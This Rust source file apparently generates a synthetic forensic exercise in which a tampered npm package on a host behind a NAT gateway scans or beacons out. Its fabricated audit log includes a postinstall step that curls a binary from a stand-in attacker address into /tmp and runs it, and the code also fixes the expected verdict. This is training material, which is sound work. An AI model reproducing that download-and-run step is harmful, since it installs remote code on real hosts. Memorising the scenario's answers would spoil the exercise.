//! The reported address is that of a NAT gateway; behind it, one of several hosts installed a tampered package and looks for
//! more victims. Which one it was, only the gateway's own flow records tell.

use abate_model::truth::Attacker;
use abate_model::{Category, CauseKind, Factor, Text, Verdict};
use serde_json::json;

use super::Scenario;
use crate::clock::{self, DAY, HOUR, Second, Zone};
use crate::flow::{self, Amount, End, Form, INTERVAL, TCP};
use crate::folder::{Frame, Record};
use crate::hostlog::{self, Exec, Logger};
use crate::inventory;
use crate::noise;
use crate::report::{self, Report, accusation};
use crate::rng::Rng;
use crate::scatter::Scattered;
use crate::stage::{Outcome, Part, Stage};
use crate::world::{Host, World};

pub(super) static SCENARIO: Scenario = Scenario {
    id: "nat-shared-address",
    title: Text::fixed("Infected host behind a NAT gateway", "NAT ゲートウェイの背後の感染ホスト"),
    summary: Text::fixed(
        "The reported address belongs to a NAT gateway that several hosts share. One of them installed a tampered package, which scans others or calls its controller.",
        "通報されたアドレスは、複数のホストが共有する NAT ゲートウェイのものです。そのうち一台が改ざんされたパッケージを導入し、スキャンや指令サーバーとの通信を行います。",
    ),
    build,
};

const HOURS: (i64, i64) = (6, 10);

struct Plot {
    /// the gateway; its instance id is that of the gateway
    nat: Host,
    /// the infected host behind it
    infected: Host,
    /// the others behind it
    others: Vec<Host>,
    logger: Logger,
    package: String,
    /// it scans, instead of calling its controller
    scans: bool,
    port: i64,
    /// from when on
    out: Second,
}

impl Plot {
    /// Every host behind the gateway.
    fn behind(&self) -> impl Iterator<Item = &Host> {
        std::iter::once(&self.infected).chain(&self.others)
    }
}

fn build(stage: &mut Stage) -> Outcome {
    let plot = plot(stage);
    let (world, start) = (stage.world.clone(), stage.world.incident);
    let innocent = super::opens_innocently(&world, &mut stage.attack, start - 35 * HOUR);
    super::trail(stage, super::NO_BUILDS, vec![innocent]);
    let at_hand = stage.attack.range(0, 9);
    let known = at_hand < 8;
    if known {
        host_logs(stage, &plot, at_hand);
    }

    let mut seen = Vec::new();
    let mut flows = shared(&world, &mut stage.attack, &plot);
    flows.extend(outward(&world, &mut stage.attack, &plot, &mut seen));
    flows.extend(noise::draw(&world, &mut stage.attack, &world.batch, HOURS, &[], 3));
    let mut rules = super::rules(&world, &world.batch, Vec::new()).to_vec();
    rules.extend(plot.behind().map(|host| (host, Vec::new())));
    super::flows_with(stage, HOURS, flows, &rules);
    stage.parts.extend(gateway(&world, &plot));

    let notice = notice(&world, &mut stage.attack, &plot, &seen);
    let category = if plot.scans { Category::PortScan } else { Category::Botnet };
    let (kind, factor) =
        if known { (CauseKind::TamperedImageOrDependency, Factor::Vulnerability) } else { (CauseKind::Undetermined, Factor::Unknown) };
    let outcome = Outcome::new(category, kind, factor, Verdict::Confirmed, notice);
    let mut addresses = vec![world.intruder(1).to_owned()];
    if !plot.scans {
        addresses.push(world.intruder(0).to_owned());
    }
    Outcome { attacker: Attacker { addresses, principals: Vec::new() }, ..outcome }
}

fn plot(stage: &mut Stage) -> Plot {
    stage.world.flow_form = Form::Custom;
    let public = stage.world.take_address(&mut stage.attack);
    let net = stage.world.web.private.rsplit_once('.').map_or("10.0.0", |(net, _)| net).to_owned();
    let rng = &mut stage.attack;
    let mut nat = Host::new("nat1", rng, format!("{net}.5"), public);
    nat.instance = format!("nat-0{}", rng.hex(16));
    let names = ["worker1", "worker2", "worker3", "worker4"];
    let mut others: Vec<Host> =
        names.iter().zip(201..).map(|(name, last)| Host::new(name, rng, format!("{net}.{last}"), String::new())).collect();
    let infected = others.swap_remove(rng.index(others.len()));
    others.truncate(usize::try_from(rng.range(1, 3)).unwrap_or(2));
    let logger = Logger::draw(rng, &infected);
    let package = format!(
        "{}@{}.{}.{}",
        rng.pick(&["left-trim-utils", "pdf-text-tools", "color-log-lite", "http-retry-agent2"]),
        rng.range(1, 6),
        rng.range(0, 9),
        rng.range(1, 19)
    );
    let scans = rng.chance(50);
    let port = if scans { rng.pick(&[22_i64, 2375, 6379, 5432]) } else { rng.pick(&[443_i64, 8443, 1389]) };
    Plot { nat, infected, others, logger, package, scans, port, out: stage.world.incident + rng.range(1, 60) * 60 }
}

/// What the infected host has logged: the installation, or the programs that were started, or both.
fn host_logs(stage: &mut Stage, plot: &Plot, at_hand: i64) {
    let (world, start, name) = (stage.world.clone(), stage.world.incident, plot.infected.name);
    let (span, count, zone) = ((start - 20 * HOUR, start + 9 * HOUR), stage.scales.hosts, plot.logger.zone());
    if at_hand < 6 {
        let ordinary = Scattered::boxed(60_u32.saturating_mul(count), span, move |_, rng, at| {
            let package = rng.pick(&["express@4.21.2", "lodash@4.17.21", "pino@9.5.0", "undici@6.21.0"]);
            vec![npm(zone, at, &format!("http fetch GET 200 https://registry.example.org/{package} {}ms (cache hit)", rng.range(3, 90)))]
        });
        stage.log(format!("evidence/{name}/npm-debug.log"), Frame::LINES, ordinary, install(plot, start));
    }
    if at_hand > 3 {
        let ordinary = hostlog::audit_days(150_u32.saturating_mul(count), span);
        stage.log(format!("evidence/{name}/audit.log"), Frame::LINES, ordinary, audit(&world, plot));
    }
    stage.parts.extend(plot.logger.clue(name, start + DAY));
}

fn npm(zone: Zone, at: Second, message: &str) -> Record {
    Record::plain(at, format!("{} {message}", zone.precise(at)))
}

fn install(plot: &Plot, start: Second) -> Vec<Record> {
    let (zone, bare) = (plot.logger.zone(), plot.package.split('@').next().unwrap_or("package"));
    vec![
        npm(zone, start - 30, "verbose cli /usr/bin/node /usr/bin/npm ci").aside(),
        npm(
            zone,
            start - 4,
            &format!("http fetch GET 200 https://registry.example.org/{bare}/-/{}.tgz 61ms (cache miss)", plot.package.replace('@', "-")),
        ),
        npm(zone, start, &format!("info run {} postinstall node_modules/{bare} node setup.js", plot.package))
            .because("the new version of a package runs a script of its own"),
        npm(zone, start + 9, &format!("info run {} postinstall {{ code: 0, signal: null }}", plot.package)),
        npm(zone, start - 20, "info run sharp@0.33.5 install node_modules/sharp node install/check")
            .decoy("a package that looks for a compiler, as it always does"),
        npm(zone, start - 19, "info run esbuild@0.24.0 postinstall node_modules/esbuild node install.js")
            .decoy("a package that fetches its binary, as it always does"),
    ]
}

fn audit(world: &World, plot: &Plot) -> Vec<Record> {
    let (start, bare) = (world.incident, plot.package.split('@').next().unwrap_or("package"));
    let (npm, cwd) = (5_210, format!("/srv/worker/node_modules/{bare}"));
    let url = format!("http://{}/p/linux.bin", world.intruder(1));
    let exec = |at, pid, exe, argv: &[&str]| Exec { at, pid, uid: 1001, exe, argv, cwd: &cwd }.lines();
    let mut lines = Exec { at: start, pid: (5_244, npm), uid: 1001, exe: "/usr/bin/dash", argv: &["sh", "-c", "node setup.js"], cwd: &cwd }
        .because("the installation of a package starts the package's own script");
    lines.extend(exec(start, (5_245, 5_244), "/usr/bin/node", &["node", "setup.js"]));
    lines.extend(
        Exec {
            at: start + 1,
            pid: (5_252, 5_245),
            uid: 1001,
            exe: "/usr/bin/curl",
            argv: &["curl", "-s", "-o", "/tmp/.node-gyp", &url],
            cwd: &cwd,
        }
        .because("the script fetches a program"),
    );
    lines.extend(exec(start + 4, (5_260, 5_245), "/tmp/.node-gyp", &["/tmp/.node-gyp"]));
    let build = ["sh", "-c", "node install.js"];
    let good =
        Exec { at: start - 19, pid: (5_230, npm), uid: 1001, exe: "/usr/bin/dash", argv: &build, cwd: "/srv/worker/node_modules/esbuild" };
    lines.extend(good.decoy("a package that fetches its binary, as it always does"));
    lines
}

/// The records of a connection from behind the gateway: two at the host, and four at the gateway, which hides the host.
fn through(
    world: &World,
    plot: &Plot,
    (worker, port): (&Host, i64),
    to: (&str, i64),
    at: Second,
    there: (i64, i64),
    back: (i64, i64),
) -> Vec<Record> {
    let nat = &plot.nat;
    let (host, gateway, server) = (End::new(&worker.private, port), End::new(&nat.private, port + 1), End::new(to.0, to.1));
    let amount = |(packets, bytes): (i64, i64)| Amount { protocol: TCP, packets, bytes, span: (at, at + 2), accepted: true };
    let inside = End::new(&nat.private, to.1);
    let mut lines = vec![
        flow::line(world, worker, &host, &server, amount(there)),
        flow::line_through(world, nat, (&host, &inside), (&worker.private, to.0), amount(there)),
        flow::line(world, nat, &gateway, &server, amount(there)),
    ];
    if back.0 > 0 {
        lines.push(flow::line(world, worker, &server, &host, amount(back)));
        lines.push(flow::line(world, nat, &server, &gateway, amount(back)));
        lines.push(flow::line_through(world, nat, (&inside, &host), (to.0, &worker.private), amount(back)));
    }
    lines
}

/// What all the hosts behind the gateway do all day; every interface has records in every interval.
fn shared(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (first, last) = (clock::floor(world.incident - HOURS.0 * HOUR, INTERVAL), world.incident + HOURS.1 * HOUR);
    let mut flows = Vec::new();
    for start in (first..last).step_by(usize::try_from(INTERVAL).unwrap_or(600)) {
        for worker in plot.behind() {
            let (to, at) = (format!("198.18.250.{}", rng.range(1, 9)), start + rng.range(0, INTERVAL - 60));
            let size = rng.range(2_000, 200_000);
            flows.extend(through(world, plot, (worker, rng.range(32_768, 60_000)), (&to, 443), at, (12, 2_000), (9 + size / 1400, size)));
        }
    }
    let mut flows: Vec<Record> = flows.into_iter().map(Record::aside).collect();
    // Another host behind the gateway reads partners' sites at the same time.
    let mut crawled = Vec::new();
    let other = plot.others.first().unwrap_or(&plot.infected);
    for n in 0..rng.range(30, 60) {
        let to = rng.stranger().to_string();
        crawled.extend(through(
            world,
            plot,
            (other, rng.range(32_768, 60_000)),
            (&to, 443),
            plot.out - 300 + n * 7,
            (13, 1_900),
            (30, 33_000),
        ));
    }
    flows.extend(noise::mislead(crawled, "another host behind the same gateway reads partners' sites"));
    flows
}

fn outward(world: &World, rng: &mut Rng, plot: &Plot, seen: &mut Vec<(Second, String)>) -> Vec<Record> {
    let infected = &plot.infected;
    let (count, pause) =
        if plot.scans { (rng.range(110, 160), rng.pick(&[3_i64, 12, 60])) } else { (rng.range(60, 100), rng.pick(&[60_i64, 120, 300])) };
    let mut flows = through(world, plot, (infected, 41_022), (world.intruder(1), 80), world.incident + 1, (52, 3_000), (170, 231_400));
    for n in 0..count.min((HOURS.1 - 2) * HOUR / pause) {
        let (at, target) = (plot.out + n * pause, if plot.scans { rng.stranger().to_string() } else { world.intruder(0).to_owned() });
        let answered = !plot.scans || rng.chance(8);
        let (there, back) = if answered { ((9, 1_020), (8, 1_480)) } else { ((2, 120), (0, 0)) };
        let mut lines = through(world, plot, (infected, rng.range(32_768, 60_000)), (&target, plot.port), at, there, back).into_iter();
        let first = n == 0 || n == count / 3;
        flows.extend(lines.next().map(|record| if first { record.because("the host behind the gateway that does it") } else { record }));
        flows.extend(lines.next().map(|record| if first { record.because("the gateway takes it from that host") } else { record }));
        flows.extend(lines.next().map(|record| if first { record.because("and passes it on under the reported address") } else { record }));
        flows.extend(lines);
        if (count / 3..count / 3 + 4).contains(&n) {
            seen.push((at, target));
        }
    }
    flows
}

/// What `aws ec2 describe-nat-gateways` and `describe-network-interfaces` print of the gateway and of the hosts behind it.
fn gateway(world: &World, plot: &Plot) -> [Part; 2] {
    let nat = &plot.nat;
    let gateways = json!({"NatGateways": [{
        "NatGatewayId": nat.instance, "State": "available", "VpcId": world.vpc, "SubnetId": world.subnet, "ConnectivityType": "public",
        "CreateTime": clock::iso(world.incident - 200 * DAY), "NatGatewayAddresses": [{
            "AllocationId": nat.allocation, "NetworkInterfaceId": nat.interface, "PrivateIp": nat.private, "PublicIp": nat.public, "Status": "succeeded"
        }]
    }]});
    let mut interfaces = vec![json!({
        "NetworkInterfaceId": nat.interface, "InterfaceType": "nat_gateway", "Description": format!("Interface for NAT Gateway {}", nat.instance),
        "PrivateIpAddress": nat.private, "Association": {"PublicIp": nat.public, "AllocationId": nat.allocation}, "Status": "in-use",
        "VpcId": world.vpc, "SubnetId": world.subnet, "OwnerId": world.account, "RequesterManaged": true
    })];
    interfaces.extend(plot.behind().map(|worker| {
        json!({
            "NetworkInterfaceId": worker.interface, "InterfaceType": "interface", "Description": "", "PrivateIpAddress": worker.private,
            "Attachment": {"InstanceId": worker.instance, "Status": "attached", "DeviceIndex": 0}, "Status": "in-use",
            "VpcId": world.vpc, "SubnetId": world.subnet, "OwnerId": world.account
        })
    }));
    [inventory::file("nat-gateways", &gateways), inventory::file("network-interfaces", &json!({"NetworkInterfaces": interfaces}))]
}

fn notice(world: &World, rng: &mut Rng, plot: &Plot, seen: &[(Second, String)]) -> Vec<u8> {
    let (at, source, port) = (seen.first().map_or(plot.out, |(at, _)| *at), &plot.nat.public, plot.port);
    let mut excerpt = vec![report::opening(rng), String::new()];
    excerpt.extend(seen.iter().map(|(at, target)| match plot.scans {
        true => format!("{} {source} -> {target}:{port}/tcp SYN", clock::iso(*at)),
        false => format!("\"{}\",\"{source}\",\"{target}\",\"{port}\",\"tcp\",\"infected\"", clock::iso(*at)),
    }));
    let resource = format!("NAT Gateway Id: {} [{source}]", plot.nat.instance);
    let (accusation, activity) = if plot.scans { (accusation::PORT_SCAN, "Port Scanning") } else { (accusation::BOTNET, "Botnet") };
    report::write(world, rng, &Report { resource, accusation, activity: Some(activity), at, fields: Vec::new(), excerpt })
}
